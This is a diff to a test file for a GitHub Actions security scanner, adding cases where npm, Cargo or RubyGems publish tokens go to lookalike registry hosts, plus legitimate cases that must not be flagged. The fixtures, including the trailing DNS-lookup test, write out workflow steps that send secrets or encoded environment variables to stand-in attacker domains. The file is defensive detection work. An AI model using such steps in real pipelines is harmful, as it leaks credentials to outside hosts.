@@ -579,6 +579,68 @@ describe('gha-secrets-exfiltration', () => {
     for (const steps of fine) expect(only(`on: push\n${job(steps)}`, 'gha-secrets-exfiltration'), steps).toEqual([]);
   });
 
+  it('reports an npm, crates.io or RubyGems token given to another registry (an .npmrc auth line, npm publish --registry, setup-node registry-url, cargo publish --index, gem push --host), high; the registries themselves, GitHub Packages, the machine itself and a private registry with its own secret are not', () => {
+    const npmrc = `on: push\n${job(`      - name: Publish
+        run: |
+          cat > ~/.npmrc <<EOF
+          registry=https://npm.registry-cdn.dev/
+          //npm.registry-cdn.dev/:_authToken=\${NODE_AUTH_TOKEN}
+          EOF
+          npm publish --access public
+        env:
+          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
+`)}`;
+    // One report for the host: the token's, not also npm-registry-override's for the registry= line.
+    expect(found(npmrc).filter(([id]) => id === 'gha-secrets-exfiltration' || id === 'npm-registry-override')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
+    expect(found(npmrc.replace('npm publish --access public', 'npm ci')).filter(([id]) => id === 'gha-secrets-exfiltration' || id === 'npm-registry-override')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
+    expect(extractWorkflow(npmrc, '.github/workflows/x.yml').findings?.[0]?.title).toBe('An npm token is given to another registry, npm.registry-cdn.dev');
+    const option = `on: push\n${job(`      - run: |
+          npm config set //registry.npmjs-cache.io/:_authToken "$NPM_TOKEN"
+          npm publish --registry https://registry.npmjs-cache.io/
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+`)}`;
+    expect(found(option).filter(([id]) => id === 'gha-secrets-exfiltration' || id === 'npm-registry-override')).toEqual([['gha-secrets-exfiltration', 'high', 7]]);
+    const setupNode = `on: push\n${job(`      - uses: actions/setup-node@${SHA}
+        with:
+          node-version: 22
+          registry-url: https://npm.pkg-mirror.net
+      - run: npm ci && npm publish
+        env:
+          NODE_AUTH_TOKEN: \${{ secrets.NPM_PUBLISH_TOKEN }}
+`)}`;
+    expect(only(setupNode, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
+    const cargo = `on: push\n${job(`      - run: cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token "$CARGO_REGISTRY_TOKEN"
+        env:
+          CARGO_REGISTRY_TOKEN: \${{ secrets.CARGO_REGISTRY_TOKEN }}
+`)}`;
+    expect(only(cargo, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
+    const gem = `on: push\n${job(`      - run: gem push --host https://gems.rubycentral-cdn.org pkg/*.gem
+        env:
+          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_API_KEY }}
+`)}`;
+    expect(only(gem, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
+    const fine = [
+      // The registries themselves and GitHub Packages.
+      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://registry.npmjs.org\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://npm.pkg.github.com\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+      `      - run: echo "//registry.npmjs.org/:_authToken=\${NPM_TOKEN}" > .npmrc && npm publish\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+      `      - run: cargo publish --token \${{ secrets.CARGO_REGISTRY_TOKEN }}\n`,
+      `      - run: gem push --host https://rubygems.org pkg/*.gem\n        env:\n          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_API_KEY }}\n`,
+      `      - run: gem push --host https://rubygems.pkg.github.com/acme pkg/*.gem\n        env:\n          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_API_KEY }}\n`,
+      // The machine itself: a Verdaccio an end-to-end test starts.
+      `      - run: npm publish --registry http://localhost:4873\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+      // A private registry with its own secret, or one whose name the secret carries.
+      `      - uses: actions/setup-node@${SHA}\n        with:\n          registry-url: https://acme.jfrog.io/artifactory/api/npm/npm-local/\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.ARTIFACTORY_NPM_TOKEN }}\n`,
+      `      - run: npm publish --registry https://nexus.acme.dev/repository/npm-private/\n        env:\n          NPM_TOKEN: \${{ secrets.NEXUS_NPM_TOKEN }}\n`,
+      // A scope's private registry beside a publish to npm: the token goes with an auth line only, and there is none for it.
+      `      - run: |\n          echo "@acme:registry=https://acme.jfrog.io/artifactory/api/npm/npm/" >> .npmrc\n          npm publish\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+      // Another registry named by a command that does not publish: npm sends no token for it (npm-registry-override's concern).
+      `      - run: npm install --registry https://registry.npmmirror.com\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+    ];
+    for (const steps of fine) expect(only(`on: push\n${job(steps)}`, 'gha-secrets-exfiltration'), steps).toEqual([]);
+  });
+
   it('reports a secret or the environment written into the name of a DNS lookup, critical; ordinary lookups are not', () => {
     const sent = `on: push\n${job(`      - run: nslookup "$(echo \${{ secrets.NPM_TOKEN }} | base32 | tr -d = | head -c 60).cache-check.dev"
       - run: for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net"; done
